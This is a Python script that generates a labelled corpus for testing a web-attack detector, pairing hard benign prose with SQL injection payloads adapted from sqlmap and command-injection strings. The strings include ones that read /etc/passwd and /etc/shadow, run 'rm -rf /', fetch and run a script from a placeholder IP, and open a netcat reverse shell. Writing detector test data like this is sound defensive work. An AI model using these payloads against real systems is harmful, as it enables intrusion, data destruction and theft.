#!/usr/bin/env python3
"""Hard-benign prose beside the injection techniques the SQL tautology and shell-separator
rules are for (issue 17, det-fp): a labelled JSONL corpus for `palisade eval`.

  python3 scripts/gen-prose-injection-fixture.py > crates/detect/tests/fixtures/prose-vs-injection.jsonl

Deterministic (seed 1717 unless `--seed`). Written before any rule change, to measure
the rules on it first.

Sources.
- SQL attacks: templates copied from sqlmap 1.10.10 (`pip download sqlmap --no-deps`),
  `data/xml/payloads/boolean_blind.xml` and `inline_query.xml` (the `<payload>` of each
  test named in `SQL_TESTS`), put together the way sqlmap does with prefix/suffix pairs
  from `data/xml/boundaries.xml` (`BOUNDARIES`): `<original value><prefix> <payload>
  <comment><suffix>`, `[RANDNUM]`/`[RANDSTR]` drawn here. sqlmap is GPL-2.0; these are
  short test strings quoted for interoperability testing.
- Command injection: the shapes the issue lists (`;cat /etc/passwd`, `&ping -n 25
  127.0.0.1&`, `|id`, backticks, `$(…)`, `; rm -rf /`, `%0aid`) and commix-style
  variants with an original value before the separator.
- Benign: written for this file: English and non-English prose with comparisons,
  "and/or" next to numbers, semicolons followed by shell-sounding words, math homework,
  product descriptions, code-review comments and chat messages.

Each line: {"method","uri","version","headers","body","label","category","part"};
`category` is `sqli`/`rce` for attacks and the kind of text for benign lines; every
value goes in a query parameter, and a second time in a form or JSON body.
"""
import argparse
import json
import random
import string
import urllib.parse

UA = ("Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0")

# (sqlmap test title, payload template, where): where 1 = appended to the original
# value, 2 = the original value replaced by -RANDNUM, 3 = the value replaced.
SQL_TESTS = [
    ("AND boolean-based blind - WHERE or HAVING clause", "AND [RANDNUM]=[RANDNUM]", 1),
    ("OR boolean-based blind - WHERE or HAVING clause", "OR [RANDNUM]=[RANDNUM]", 2),
    ("OR boolean-based blind - WHERE or HAVING clause (NOT)", "OR NOT [RANDNUM]=[RANDNUM]", 1),
    ("AND boolean-based blind - WHERE or HAVING clause (comparison)", "AND [RANDNUM]=[RANDNUM1]", 1),
    ("AND boolean-based blind - WHERE or HAVING clause (subquery - comment)",
     "AND [RANDNUM]=(SELECT (CASE WHEN ([RANDNUM]=[RANDNUM]) THEN [RANDNUM] ELSE "
     "(SELECT [RANDNUM1] UNION SELECT [RANDNUM2]) END))", 1),
    ("MySQL RLIKE boolean-based blind", "RLIKE (SELECT (CASE WHEN ([RANDNUM]=[RANDNUM]) "
     "THEN [ORIGVALUE] ELSE 0x28 END))", 1),
    ("MySQL AND boolean-based blind (MAKE_SET)", "AND MAKE_SET([RANDNUM]=[RANDNUM],[RANDNUM1])", 1),
    ("MySQL OR boolean-based blind (ELT)", "OR ELT([RANDNUM]=[RANDNUM],[RANDNUM1])", 2),
    ("PostgreSQL AND boolean-based blind (CAST)", "AND (SELECT (CASE WHEN ([RANDNUM]=[RANDNUM]) "
     "THEN NULL ELSE CAST('[RANDSTR]' AS NUMERIC) END)) IS NULL", 1),
    ("Oracle AND boolean-based blind (CTXSYS.DRITHSX.SN)", "AND (SELECT (CASE WHEN "
     "([RANDNUM]=[RANDNUM]) THEN NULL ELSE CTXSYS.DRITHSX.SN(1,[RANDNUM]) END) FROM DUAL) IS NULL", 1),
    ("SQLite AND boolean-based blind (JSON)", "AND CASE WHEN [RANDNUM]=[RANDNUM] THEN [RANDNUM] "
     "ELSE JSON('[RANDSTR]') END", 1),
    ("Boolean-based blind - Parameter replace (original value)", "(SELECT (CASE WHEN "
     "([RANDNUM]=[RANDNUM]) THEN [ORIGVALUE] ELSE (SELECT [RANDNUM1] UNION SELECT [RANDNUM2]) END))", 3),
    ("MySQL boolean-based blind - Parameter replace (MAKE_SET)", "MAKE_SET([RANDNUM]=[RANDNUM],[RANDNUM1])", 3),
    ("MySQL boolean-based blind - Parameter replace (bool*int)", "([RANDNUM]=[RANDNUM])*[RANDNUM1]", 3),
    ("PostgreSQL boolean-based blind - Parameter replace (GENERATE_SERIES)",
     "(SELECT * FROM GENERATE_SERIES([RANDNUM],[RANDNUM],CASE WHEN ([RANDNUM]=[RANDNUM]) THEN 1 "
     "ELSE 0 END) LIMIT 1)", 3),
    ("Microsoft Access boolean-based blind - Parameter replace", "IIF([RANDNUM]=[RANDNUM],[RANDNUM],1/0)", 3),
    ("Boolean-based blind - Parameter replace (CASE)", "(CASE WHEN [RANDNUM]=[RANDNUM] THEN "
     "[RANDNUM] ELSE NULL END)", 3),
    ("MySQL >= 5.0 boolean-based blind - ORDER BY, GROUP BY clause", ",(SELECT (CASE WHEN "
     "([RANDNUM]=[RANDNUM]) THEN 1 ELSE [RANDNUM]*(SELECT [RANDNUM] FROM INFORMATION_SCHEMA.PLUGINS) END))", 1),
    ("Microsoft Access boolean-based blind - ORDER BY, GROUP BY clause", ",IIF([RANDNUM]=[RANDNUM],1,1/0)", 1),
    ("HAVING boolean-based blind - WHERE, GROUP BY clause", "HAVING [RANDNUM]=[RANDNUM]", 1),
    ("Microsoft SQL Server/Sybase boolean-based blind - Stacked queries (IF)",
     ";IF([RANDNUM]=[RANDNUM]) SELECT [RANDNUM] ELSE DROP FUNCTION [RANDSTR]", 1),
    ("Generic inline queries", "(SELECT CONCAT(CONCAT('[DELIMITER_START]',(CASE WHEN "
     "([RANDNUM]=[RANDNUM]) THEN '1' ELSE '0' END)),'[DELIMITER_STOP]'))", 3),
    ("MySQL inline queries", "(SELECT CONCAT('[DELIMITER_START]',(ELT([RANDNUM]=[RANDNUM],1)),"
     "'[DELIMITER_STOP]'))", 3),
    ("PostgreSQL inline queries", "(SELECT '[DELIMITER_START]'||(SELECT (CASE WHEN "
     "([RANDNUM]=[RANDNUM]) THEN 1 ELSE 0 END))::text||'[DELIMITER_STOP]')", 3),
    ("Microsoft SQL Server/Sybase inline queries", "(SELECT '[DELIMITER_START]'+(CASE WHEN "
     "([RANDNUM]=[RANDNUM]) THEN '1' ELSE '0' END)+'[DELIMITER_STOP]')", 3),
    ("Firebird inline queries", "SELECT '[DELIMITER_START]'||(CASE [RANDNUM] WHEN [RANDNUM] THEN 1 "
     "ELSE 0 END)||'[DELIMITER_STOP]' FROM RDB$DATABASE", 3),
]

# (prefix, suffix, ptype) from boundaries.xml; ptype 1 = numeric, 2+ = quoted.
BOUNDARIES = [
    ("", "", 1),
    (")", " AND ([RANDNUM]=[RANDNUM]", 1),
    ("))", " AND (([RANDNUM]=[RANDNUM]", 1),
    ("", "-- [RANDSTR]", 1),
    ("", "# [RANDSTR]", 1),
    ("'", " AND '[RANDSTR]'='[RANDSTR]", 2),
    ("')", " AND ('[RANDSTR]'='[RANDSTR]", 2),
    ("'", "-- [RANDSTR]", 2),
    ("\"", " AND \"[RANDSTR]\"=\"[RANDSTR]", 4),
    ("'", " AND '[RANDSTR]' LIKE '[RANDSTR]", 3),
]

SHELL = [
    ";cat /etc/passwd", "&ping -n 25 127.0.0.1&", "|id", "`id`", "$(id)", "; rm -rf /",
    "\nid", "%0aid", "|dir|", ";netstat -a;", "`uname -a`", "$(whoami)",
    "|| curl http://203.0.113.9/x.sh | sh", "; wget http://203.0.113.9/b -O /tmp/b",
    "&& cat /etc/shadow", "\ncat /etc/hosts", "; ls -la /var/www", "| nc -e /bin/sh 203.0.113.9 4444",
    "; sleep 10", "&& whoami", "| head -n 5 /etc/passwd", "; id;",
]
# Where the shell shapes go: alone (value replaced), after an original value, or after
# a longer original text (the separator mid-value).
SHELL_ORIGINALS = ["127.0.0.1", "report.pdf", "a", "42", "example.com", "my notes"]

BENIGN = {
    "comparison": [
        "Cost check: 5 < 10 and 20 > 3, right?",
        "If x > 5 and y < 3 then the point lies in the lower right region",
        "My score went from 7 to 9 and 9 > 8, so I passed",
        "Temperatures: 12 < 15 or 18 > 16 depending on the day, isn't that odd?",
        "We need 3 and 4 = 7 chairs in total, or 8 to be safe",
        "He is 30 and 20 > 3 years of experience is not what we asked for",
        "Prices went up: 5 and 10 > what they were, don't you think?",
        "Rooms 101 and 102 = booked, 103 or 104 = free",
    ],
    "math": [
        "Homework: show that 3 < 4 and 5 > 2 both hold",
        "If a = 3 and b = 4 then c = 5 (Pythagoras)",
        "Solve 2x + 3 = 11 and 4y - 1 = 7 for x and y",
        "Is 7 > 3 and 2 < 5? Yes, both are true statements",
        "Exercise 4: 10 or 12 = which is closer to 11?",
        "Prove that n > 1 and n < 3 means n = 2 for integers",
    ],
    "shell_words": [
        "He waved and then left; rm -rf was never something he'd type",
        "I fed the pets this morning; cat was hungry, dog was not",
        "Great talk yesterday; ping me if you have questions",
        "Sorry, busy all day; echo the message to the team please",
        "Check the attached logs; tail end of the file shows the error",
        "We had a good time at the workshop; ls was the first command I learned",
        "Step one is to relax; sleep well tonight before the exam",
        "Notes from the meeting; id badge needed for entry on Monday",
        "The lunch menu is here; head chef recommends the fish",
        "Bring snacks && drinks; set the table by seven",
        "Our new office\ncat lovers welcome, dogs too",
        "Thanks for the update | more details will follow next week",
    ],
    "product": [
        "Set of 2 and 4 = 6 pieces; fits tables 90 or 120 cm wide",
        "Battery lasts 10 h or 12 h > enough for a full working day",
        "Pack sizes 6 and 12 = best value, ships in 2 or 3 days",
        "Screen 15.6 in and weight < 2 kg; cat-friendly fabric cover",
        "Kit includes: cable; head unit; remote; id card holder",
        "Compatible with sizes 38 or 40 > choose the larger if in doubt",
    ],
    "code_review": [
        "nit: use >= instead of > here, and 0 = default is fine",
        "LGTM; rm the debug print before merging please",
        "if (a > 0 and b < 10) return early; id should be unsigned",
        "This loops while i < 10 or j > 3; cat the two lists instead?",
        "Rename the field to `user_id` and keep 1 = enabled, 0 = disabled",
        "Condition count > 0 and count < 256 looks right to me",
    ],
    "chat": [
        "lol 5 > 3 and 2 < 4 obviously",
        "brb; cat needs feeding",
        "u there? ping me when free; echo says hi",
        "2 or 3 = enough pizza for us tonight?",
        "meet at 5 and 6 = too late for you?",
        "ok so 10 and 20 > 15 right? 😂",
    ],
    "non_english": [
        "Preis: 5 < 10 und 20 > 3, oder nicht?",
        "Bonjour ; cat et chien sont les bienvenus, 5 < 10 and 20 > 3 selon le prof",
        "Precio total: 5 < 10 y 20 > 3, ¿verdad?",
        "価格は 5 < 10 and 20 > 3 です、確認してください; ls の説明も",
        "Бюджет: 5 < 10 and 20 > 3, верно? Потом; echo отчёт коллегам",
        "Mein Kater frisst viel; cat food ist teuer, 3 or 4 > 2 Dosen pro Tag",
        "Ce soir ; rm -rf n'est pas une commande à taper, 2 or 3 = assez",
        "Tjänsten kostar 5 och 10 > mer än väntat; ping mig",
    ],
}


def rand_str(rng, n=4):
    return "".join(rng.choice(string.ascii_letters) for _ in range(n))


def instantiate(rng, template, orig):
    out = template
    for key in ["[RANDNUM2]", "[RANDNUM1]", "[RANDNUM]"]:
        n = str(rng.randint(1000, 9999))
        out = out.replace(key, n)
    out = out.replace("[RANDSTR]", rand_str(rng))
    out = out.replace("[DELIMITER_START]", "q" + rand_str(rng, 3).lower() + "q")
    out = out.replace("[DELIMITER_STOP]", "q" + rand_str(rng, 3).lower() + "q")
    return out.replace("[ORIGVALUE]", orig)


def sqli_values(rng):
    values = []
    for title, payload, where in SQL_TESTS:
        # Two instances per test: two boundaries drawn for appended payloads.
        picks = rng.sample(BOUNDARIES, 2) if where != 3 else [("", "", 1), ("", "", 1)]
        for prefix, suffix, ptype in picks:
            orig = str(rng.randint(1, 400)) if ptype == 1 else rand_str(rng, 6).lower()
            if where == 2:
                orig = "-" + str(rng.randint(1000, 9999))
            if where == 3:
                v = instantiate(rng, payload, str(rng.randint(1, 400)))
            elif payload.startswith(","):
                v = orig + instantiate(rng, payload, orig)
            else:
                # sqlmap puts a space between the prefix and the payload, except
                # before a stacked query's `;`.
                sep = "" if payload.startswith(";") else " "
                v = instantiate(rng, f"{orig}{prefix}{sep}{payload}{suffix}", orig)
            values.append((v, title))
    return values


def shell_values(rng):
    values = []
    for shape in SHELL:
        values.append((shape, "alone"))
        orig = rng.choice(SHELL_ORIGINALS)
        values.append((orig + shape, "after value"))
    return values


def request(rng, value, label, category, place):
    p = rng.choice(["q", "id", "name", "comment", "host", "file"])
    headers = [["Host", "app.example.org"], ["User-Agent", UA], ["Accept", "*/*"]]
    if place == "query":
        uri = f"/search?{p}={urllib.parse.quote(value, safe='')}&page=1"
        return {"method": "GET", "uri": uri, "version": "HTTP/1.1", "headers": headers,
                "body": "", "label": label, "category": category, "part": "query"}
    if place == "form":
        headers.append(["Content-Type", "application/x-www-form-urlencoded"])
        body = f"{p}={urllib.parse.quote_plus(value)}&submit=Send"
    else:
        headers.append(["Content-Type", "application/json"])
        body = json.dumps({p: value, "page": 1}, ensure_ascii=False)
    return {"method": "POST", "uri": "/api/messages", "version": "HTTP/1.1",
            "headers": headers, "body": body, "label": label, "category": category,
            "part": place}


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--seed", type=int, default=1717)
    ap.add_argument("--values", action="store_true",
                    help="print the values (label, category, value) instead of requests")
    args = ap.parse_args()
    rng = random.Random(args.seed)
    rows = []
    for v, _title in sqli_values(rng):
        rows.append((v, "attack", "sqli"))
    for v, _where in shell_values(rng):
        rows.append((v, "attack", "rce"))
    for kind, texts in BENIGN.items():
        for t in texts:
            rows.append((t, "normal", kind))
    for value, label, category in rows:
        if args.values:
            print(json.dumps([label, category, value], ensure_ascii=False))
            continue
        for place in ["query", rng.choice(["form", "json"])]:
            print(json.dumps(request(rng, value, label, category, place), ensure_ascii=False))


if __name__ == "__main__":
    main()
